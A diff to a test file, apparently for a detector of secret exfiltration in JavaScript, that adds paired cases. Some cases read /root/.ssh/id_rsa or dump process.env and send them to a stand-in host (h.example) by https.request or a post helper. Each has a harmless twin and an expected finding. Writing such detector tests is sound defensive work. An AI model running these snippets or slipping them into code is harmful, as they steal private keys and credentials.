@@ -90,6 +90,18 @@ const TWINS: readonly Twins[] = [
     `${KEY} const parts = key.split('').map((c) => 1); ${post("['a'].join('')")}`,
   ],
   [
+    'a stream that is piped',
+    "const fs = require('fs'); fs.createReadStream('/root/.ssh/id_rsa').pipe(require('https').request('https://h.example'));",
+    ['secret /root/.ssh/id_rsa -> https.request'],
+    "const fs = require('fs'); fs.createReadStream('notes.txt').pipe(require('https').request('https://h.example'));",
+  ],
+  [
+    'a getter, a generator and a default',
+    `class A { get k() { return require('fs').readFileSync('/root/.ssh/id_rsa'); } } function* g(x = new A().k) { yield x; } for (const k of g()) { ${post('k')} }`,
+    SENT,
+    `class A { n() { return 1; } get k() { return require('fs').readFileSync('/root/.ssh/id_rsa'); } } function* g(x = new A().n()) { yield x; } for (const k of g()) { ${post('k')} }`,
+  ],
+  [
     'all of the environment',
     `const dump = JSON.stringify({ ...process.env }); ${post('dump')}`,
     ['environment * -> fetch'],
